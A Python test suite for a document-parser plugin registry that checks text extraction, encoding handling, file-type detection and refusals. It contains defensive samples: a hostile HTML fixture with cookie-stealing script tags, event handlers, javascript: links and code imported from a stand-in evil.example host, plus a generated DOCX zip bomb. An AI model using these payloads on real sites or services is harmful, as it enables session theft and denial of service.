"""Parser plugins and their registry: what each format yields, what is refused.

Fixture files are built at test time (fpdf2 for PDF, python-docx for DOCX), so
every test states the words it expects to come back.
"""

from __future__ import annotations

import importlib.metadata
import io
import logging
import random
import threading
import time
import zipfile

import docx
import pytest
from fpdf import FPDF

from docsite.documents.exceptions import (
    CorruptFileError,
    DocumentRejectedError,
    EmptyDocumentError,
    FileTooLargeError,
    UnsupportedFormatError,
)
from docsite.documents.parsers import (
    ENTRY_POINT_GROUP,
    MIME_DOCX,
    MIME_HTML,
    MIME_MARKDOWN,
    MIME_PDF,
    MIME_TEXT,
    decode_text,
    detect_mime_type,
    load_parsers,
    parse_document,
    reset_parsers,
)
from docsite.documents.parsers.base import BaseParser, ParsedDocument
from docsite.documents.parsers.html import clean_html

BUILTIN_PARSERS = {
    "text": "docsite.documents.parsers.text:TextParser",
    "markdown": "docsite.documents.parsers.markdown:MarkdownParser",
    "html": "docsite.documents.parsers.html:HtmlParser",
    "pdf": "docsite.documents.parsers.pdf:PdfParser",
    "docx": "docsite.documents.parsers.docx:DocxParser",
}


@pytest.fixture(autouse=True)
def _fresh_registry():
    reset_parsers()
    yield
    reset_parsers()


def use_entry_points(monkeypatch, plugins: dict[str, str]) -> None:
    """Make ``plugins`` (name -> "module:Class") the installed parser plugins."""
    entry_points = importlib.metadata.EntryPoints(
        importlib.metadata.EntryPoint(name=name, value=value, group=ENTRY_POINT_GROUP)
        for name, value in plugins.items()
    )

    def fake_entry_points(**params):
        assert params == {"group": ENTRY_POINT_GROUP}
        return entry_points

    monkeypatch.setattr(importlib.metadata, "entry_points", fake_entry_points)
    reset_parsers()


def make_pdf(pages: list[str], *, title: str = "") -> bytes:
    pdf = FPDF()
    if title:
        pdf.set_title(title)
    pdf.set_font("helvetica", size=12)
    for text in pages:
        pdf.add_page()
        pdf.multi_cell(w=0, text=text)
    return bytes(pdf.output())


def make_docx(*, title: str = "") -> bytes:
    document = docx.Document()
    document.core_properties.title = title
    document.add_heading("Backup procedure", level=1)
    document.add_paragraph("Run pg_dump nightly & keep <seven> copies.")
    table = document.add_table(rows=2, cols=2)
    table.cell(0, 0).text = "Server"
    table.cell(0, 1).text = "Retention"
    table.cell(1, 0).text = "orca"
    table.cell(1, 1).text = "thirty days"
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


# --- Each format yields its words -------------------------------------------


def test_plain_text_is_returned_with_newlines_normalised():
    mime_type, parsed = parse_document(
        b"Pelicans nest in colonies.\r\nThey fish together.\r\n", filename="notes.txt"
    )

    assert mime_type == MIME_TEXT
    assert parsed.text == "Pelicans nest in colonies.\nThey fish together."


def test_markdown_text_drops_markup_and_html_is_rendered():
    source = (
        b"# Release notes\n\n"
        b"The *pelican* release adds **search** and a [changelog](https://example.org/c).\n\n"
        b"- faster uploads\n- fewer bugs\n"
    )

    mime_type, parsed = parse_document(source, filename="notes.md")

    assert mime_type == MIME_MARKDOWN
    assert parsed.title == "Release notes"
    assert parsed.text.splitlines()[0] == "Release notes"
    assert "The pelican release adds search and a changelog." in parsed.text
    assert "faster uploads\nfewer bugs" in parsed.text
    for markup in ("#", "*", "](", "https://"):
        assert markup not in parsed.text
    assert "<h1>Release notes</h1>" in parsed.html
    assert '<a href="https://example.org/c" rel="noopener noreferrer">' in parsed.html


def test_html_text_keeps_blocks_on_their_own_lines_and_takes_the_title():
    page = b"""<!DOCTYPE html><html><head><title>Runbook  for
        orca</title></head><body>
        <svg><title>icon</title></svg>
        <h1>Restarting orca</h1><p>Stop the   service,
        then start it.<br> Wait a minute.</p><ul><li>check logs</li><li>page on-call</li></ul>
        <table><tr><th>host</th><th>port</th></tr><tr><td>orca</td><td>5432</td></tr></table>
        </body></html>"""

    mime_type, parsed = parse_document(page, filename="runbook.html")

    assert mime_type == MIME_HTML
    assert parsed.title == "Runbook for orca"
    assert parsed.text == (
        "Restarting orca\n\nStop the service, then start it.\nWait a minute.\n\n"
        "check logs\npage on-call\n\nhost port\norca 5432"
    )
    assert "<h1>Restarting orca</h1>" in parsed.html


def test_html_title_falls_back_to_first_h1():
    _, parsed = parse_document(
        b"<html><body><h2>Intro</h2><h1>Main title</h1><p>x</p></body></html>",
        filename="page.html",
    )

    assert parsed.title == "Main title"


def test_pdf_yields_text_of_every_page_and_metadata_title():
    data = make_pdf(["Pelicans fish in groups.", "Herons hunt alone."], title="Birds")

    mime_type, parsed = parse_document(data, filename="birds.pdf")

    assert mime_type == MIME_PDF
    assert parsed.text == "Pelicans fish in groups.\n\nHerons hunt alone."
    assert parsed.title == "Birds"
    assert parsed.metadata == {"pages": 2}


def test_docx_yields_headings_paragraphs_and_table_cells():
    mime_type, parsed = parse_document(make_docx(), filename="backup.docx")

    assert mime_type == MIME_DOCX
    assert parsed.text == (
        "Backup procedure\n\n"
        "Run pg_dump nightly & keep <seven> copies.\n\n"
        "Server\tRetention\norca\tthirty days"
    )
    assert parsed.title == "Backup procedure"
    assert "<h2>Backup procedure</h2>" in parsed.html
    assert "&lt;seven&gt;" in parsed.html
    assert "<td>thirty days</td>" in parsed.html


def test_docx_title_prefers_core_properties():
    _, parsed = parse_document(make_docx(title="Ops manual"), filename="backup.docx")

    assert parsed.title == "Ops manual"


# --- HTML is made safe -------------------------------------------------------

HOSTILE_HTML = b"""<html><head><script>stealCookies()</script>
<style>body { display: none }</style></head><body>
<p onclick="stealCookies()">Visible words</p>
<img src="https://tracker.example/pixel.png" onerror="stealCookies()">
<a href="javascript:stealCookies()">bad link</a>
<a href=" JaVaScRiPt:stealCookies()">sneaky link</a>
<a href="https://example.org/ok">good link</a>
<svg onload="stealCookies()"><text>svg junk</text></svg>
<iframe src="https://evil.example"></iframe>
<noscript><img src=x onerror="stealCookies()"></noscript>
<script type="module">import("https://evil.example")</script>
</body></html>"""


@pytest.mark.parametrize(
    ("filename", "data"),
    [
        ("page.html", HOSTILE_HTML),
        ("page.md", b"# Notes\n\n" + HOSTILE_HTML.split(b"<body>")[1]),
    ],
)
def test_scripts_handlers_and_javascript_links_never_survive(filename, data):
    _, parsed = parse_document(data, filename=filename)

    html = parsed.html.lower()
    for forbidden in ("<script", "onclick", "onerror", "onload", "javascript:", "<img"):
        assert forbidden not in html
    assert "<iframe" not in html and "<svg" not in html and "<style" not in html
    assert "stealcookies" not in html
    assert "stealCookies" not in parsed.text and "evil.example" not in parsed.text
    assert "display: none" not in parsed.text
    assert "Visible words" in parsed.text and "good link" in parsed.text
    assert '<a href="https://example.org/ok" rel="noopener noreferrer">' in parsed.html


def test_clean_html_keeps_article_markup_and_drops_the_rest():
    cleaned = clean_html(
        '<h2 style="color:red">Title</h2><p class="x">A <em>b</em> <code>c</code></p>'
        '<a href="mailto:ops@example.org" target="_blank">mail</a><form><input></form>'
    )

    assert cleaned == (
        "<h2>Title</h2><p>A <em>b</em> <code>c</code></p>"
        '<a href="mailto:ops@example.org" rel="noopener noreferrer">mail</a>'
    )


@pytest.mark.parametrize("filename", ["deep.html", "deep.md"])
def test_deeply_nested_html_ends_cleanly(filename):
    """100,000 nested <div>s give text or a refusal, never a crash or a hang."""
    data = b"<html><body>" + b"<div>" * 100_000 + b"deep words" + b"</div>" * 100_000

    started = time.monotonic()
    try:
        _, parsed = parse_document(data, filename=filename)
    except DocumentRejectedError as error:
        assert "nested" in str(error)
    else:
        assert "deep words" in parsed.text
    assert time.monotonic() - started < 1


def test_moderately_nested_html_keeps_all_its_text():
    data = (
        b"<p>start</p>" + b"<div>" * 400 + b"middle" + b"</div>" * 400 + b"<p>end</p>"
    )

    _, parsed = parse_document(data, filename="nested.html")

    assert parsed.text == "start\n\nmiddle\n\nend"


def test_deeply_indented_markdown_is_refused_quickly():
    data = "\n".join("  " * level + "- item" for level in range(2000)).encode()

    started = time.monotonic()
    with pytest.raises(CorruptFileError, match="indented"):
        parse_document(data, filename="stairs.md")
    assert time.monotonic() - started < 1


# --- Text encodings ---------------------------------------------------------


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
def test_utf16_with_byte_order_mark_is_decoded(encoding):
    mark = "\ufeff".encode(encoding)
    data = mark + "Grüße aus Köln\r\nzweite Zeile".encode(encoding)

    mime_type, parsed = parse_document(data, filename="greeting.txt")

    assert mime_type == MIME_TEXT
    assert parsed.text == "Grüße aus Köln\nzweite Zeile"


def test_latin1_text_is_decoded():
    text = "Le café de la crème brûlée est très apprécié; naïve façade à Noël."

    _, parsed = parse_document(text.encode("latin-1"), filename="menu.txt")

    assert parsed.text == text


def test_decode_text_drops_utf8_byte_order_mark():
    assert decode_text(b"\xef\xbb\xbfhello\rworld") == "hello\nworld"


def test_nul_bytes_are_refused_as_binary():
    with pytest.raises(UnsupportedFormatError, match="not a supported format"):
        parse_document(b"looks like text\x00\x01\x02 but is not", filename="data.txt")


@pytest.mark.parametrize(
    "data",
    [
        random.Random(7).randbytes(4096),
        bytes(b for b in random.Random(8).randbytes(8192) if b)[:4096],
    ],
    ids=["with-nul-bytes", "without-nul-bytes"],
)
def test_random_bytes_are_refused_as_unsupported(data):
    with pytest.raises(UnsupportedFormatError, match="not a supported format"):
        parse_document(data, filename="blob.bin")


# --- Refusals ---------------------------------------------------------------


def test_empty_file_is_refused():
    with pytest.raises(EmptyDocumentError, match="empty"):
        parse_document(b"", filename="empty.txt")


@pytest.mark.parametrize(
    ("filename", "data"),
    [
        ("blank.txt", b"  \n\t\r\n"),
        ("blank.md", b"   \n"),
        ("scripts-only.html", b"<html><script>x()</script></html>"),
    ],
)
def test_file_without_text_is_refused(filename, data):
    with pytest.raises(EmptyDocumentError, match="contains no text"):
        parse_document(data, filename=filename)


def test_truncated_pdf_is_refused_as_corrupt():
    data = make_pdf(["Some words on a page."])

    with pytest.raises(CorruptFileError, match="damaged or not a PDF"):
        parse_document(data[: len(data) // 2], filename="cut.pdf")


def test_truncated_docx_is_refused_as_corrupt():
    data = make_docx()

    with pytest.raises(CorruptFileError, match="damaged"):
        parse_document(data[: len(data) // 2], filename="cut.docx")


def test_password_protected_pdf_is_refused():
    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("helvetica", size=12)
    pdf.cell(text="Secret words")
    pdf.set_encryption(owner_password="owner", user_password="reader")

    with pytest.raises(CorruptFileError, match="password-protected"):
        parse_document(bytes(pdf.output()), filename="secret.pdf")


def test_docx_zip_bomb_is_refused():
    """GIVEN a real DOCX with an extra 300 MB part of zeros (about 1 MB packed)."""
    buffer = io.BytesIO(make_docx())
    with (
        zipfile.ZipFile(buffer, "a", compression=zipfile.ZIP_DEFLATED) as archive,
        archive.open("word/media/zeros.bin", "w", force_zip64=True) as member,
    ):
        chunk = bytes(1024 * 1024)
        for _ in range(300):
            member.write(chunk)

    with pytest.raises(FileTooLargeError, match="unpacks to"):
        parse_document(buffer.getvalue(), filename="bomb.docx")


def test_docx_over_the_configured_unpacked_size_is_refused(settings):
    settings.DOCSITE_PARSERS = {
        "docx": {"OPTIONS": {"max_uncompressed_bytes": 10_000}},
    }

    with pytest.raises(FileTooLargeError, match="the limit is"):
        parse_document(make_docx(), filename="backup.docx")


def test_pdf_with_too_many_pages_is_refused(settings):
    settings.DOCSITE_PARSERS = {"pdf": {"OPTIONS": {"max_pages": 2}}}

    with pytest.raises(FileTooLargeError, match="3 pages; the limit is 2"):
        parse_document(make_pdf(["one", "two", "three"]), filename="long.pdf")


def test_text_over_the_character_limit_is_refused(settings):
    settings.DOCSITE_MAX_TEXT_CHARS = 20

    with pytest.raises(FileTooLargeError, match="the limit is 20"):
        parse_document(b"word " * 10, filename="words.txt")


def test_format_whose_parser_is_disabled_is_refused(settings):
    settings.DOCSITE_PARSERS = {"text": {"OPTIONS": {}}}

    with pytest.raises(UnsupportedFormatError, match="no parser for that format"):
        parse_document(make_pdf(["words"]), filename="report.pdf")


# --- Type detection ---------------------------------------------------------


def test_pdf_named_txt_is_detected_and_read_as_pdf():
    mime_type, parsed = parse_document(make_pdf(["Hidden PDF words"]), filename="a.txt")

    assert mime_type == MIME_PDF
    assert parsed.text == "Hidden PDF words"


@pytest.mark.parametrize(
    ("data", "filename", "expected"),
    [
        (b"plain words", "notes.txt", MIME_TEXT),
        (b"plain words", "notes", MIME_TEXT),
        (b"# heading", "notes.md", MIME_MARKDOWN),
        (b"# heading", "notes.MARKDOWN", MIME_MARKDOWN),
        (b"just text", "page.htm", MIME_HTML),
        (b"\n  <!DOCTYPE html><p>x</p>", "notes.txt", MIME_HTML),
        (b"<html><body>x</body></html>", "notes.md", MIME_HTML),
        (b"<div>\n<head></head><body>x</body>", "upload", MIME_HTML),
        (b"Use <body> for the page body.", "notes.txt", MIME_TEXT),
        (b"  %PDF-1.7 rest", "x.docx", MIME_PDF),
    ],
)
def test_detect_mime_type_follows_content(data, filename, expected):
    assert detect_mime_type(data, filename=filename) == expected


def test_docx_is_detected_by_its_main_part():
    assert detect_mime_type(make_docx(), filename="renamed.zip") == MIME_DOCX


@pytest.mark.parametrize(
    ("member", "kind"),
    [("xl/workbook.xml", "Excel workbook"), ("readme.txt", "ZIP archive")],
)
def test_other_zip_files_are_refused_by_name(member, kind):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(member, "<x/>")

    with pytest.raises(UnsupportedFormatError, match=kind):
        detect_mime_type(buffer.getvalue(), filename="sheet.docx")


def test_known_binary_formats_are_named():
    with pytest.raises(UnsupportedFormatError, match="PNG image"):
        detect_mime_type(b"\x89PNG\r\n\x1a\n" + bytes(64), filename="photo.txt")


def test_undecodable_file_with_text_extension_is_reported_as_damaged_text(
    monkeypatch,
):
    monkeypatch.setattr(
        "charset_normalizer.from_bytes",
        lambda data: type("NoMatches", (), {"best": lambda self: None})(),
    )

    with pytest.raises(CorruptFileError, match="encoding could not be recognised"):
        detect_mime_type(b"caf\xe9", filename="menu.txt")


# --- Registry ---------------------------------------------------------------


def test_builtin_parsers_are_installed_as_entry_points():
    installed = {
        entry_point.name: entry_point.value
        for entry_point in importlib.metadata.entry_points(group=ENTRY_POINT_GROUP)
    }

    assert installed.items() >= BUILTIN_PARSERS.items()
    assert list(load_parsers()) == ["text", "markdown", "html", "pdf", "docx"]


def test_parser_options_come_from_settings(settings):
    settings.DOCSITE_PARSERS = {"pdf": {"OPTIONS": {"max_pages": 7}}}

    parsers = load_parsers()

    assert list(parsers) == ["pdf"]
    assert parsers["pdf"].max_pages == 7


def test_registry_skips_a_plugin_that_fails_to_import(monkeypatch, settings, caplog):
    use_entry_points(
        monkeypatch,
        {"text": BUILTIN_PARSERS["text"], "broken": "docsite_no_such_module:Parser"},
    )
    settings.DOCSITE_PARSERS = {"broken": {"OPTIONS": {}}, "text": {"OPTIONS": {}}}

    with caplog.at_level(logging.ERROR, logger="docsite.documents.parsers"):
        parsers = load_parsers()

    assert list(parsers) == ["text"]
    assert "'broken'" in caplog.text and "failed to import" in caplog.text
    assert parse_document(b"still works", filename="a.txt")[1].text == "still works"


def test_registry_skips_a_plugin_with_unknown_options(monkeypatch, settings, caplog):
    use_entry_points(monkeypatch, {"pdf": BUILTIN_PARSERS["pdf"]})
    settings.DOCSITE_PARSERS = {"pdf": {"OPTIONS": {"max_pagez": 3}}}

    with caplog.at_level(logging.ERROR, logger="docsite.documents.parsers"):
        assert load_parsers() == {}

    assert "could not be set up" in caplog.text


def test_registry_caches_until_reset(monkeypatch):
    first = load_parsers()["text"]

    assert load_parsers()["text"] is first
    reset_parsers()
    assert load_parsers()["text"] is not first


class ExplodingParser(BaseParser):
    name = "exploding"
    mime_types = ("text/plain",)

    def parse(self, data: bytes, *, filename: str) -> ParsedDocument:
        raise RuntimeError("internal detail: pointer 0xdeadbeef")


class StuckParser(BaseParser):
    name = "stuck"
    mime_types = ("text/plain",)
    release = threading.Event()

    def parse(self, data: bytes, *, filename: str) -> ParsedDocument:
        self.release.wait(timeout=5)
        return ParsedDocument(text="too late")


def test_unexpected_parser_error_becomes_a_readable_refusal(
    monkeypatch, settings, caplog
):
    use_entry_points(monkeypatch, {"exploding": f"{__name__}:ExplodingParser"})
    settings.DOCSITE_PARSERS = {"exploding": {"OPTIONS": {}}}

    with (
        caplog.at_level(logging.ERROR, logger="docsite.documents.parsers"),
        pytest.raises(CorruptFileError, match="could not be read") as raised,
    ):
        parse_document(b"words", filename="a.txt")

    assert "0xdeadbeef" not in str(raised.value)
    assert "Traceback" not in str(raised.value)
    assert "0xdeadbeef" in caplog.text  # the operator still sees the cause


def test_parse_that_runs_too_long_is_given_up(monkeypatch, settings):
    use_entry_points(monkeypatch, {"stuck": f"{__name__}:StuckParser"})
    settings.DOCSITE_PARSERS = {"stuck": {"OPTIONS": {}}}
    settings.DOCSITE_PARSE_TIMEOUT_SECONDS = 0.2
    StuckParser.release.clear()

    started = time.monotonic()
    try:
        with pytest.raises(FileTooLargeError, match=r"took longer than 0\.2 seconds"):
            parse_document(b"words", filename="slow.txt")
    finally:
        StuckParser.release.set()
    assert time.monotonic() - started < 1


def test_markdown_with_long_blank_lines_is_not_mistaken_for_deep_nesting():
    data = b"# Notes\n" + b" " * 300 + b"\nBody text.\n"

    _, parsed = parse_document(data, filename="notes.md")

    assert parsed.text == "Notes\n\nBody text."
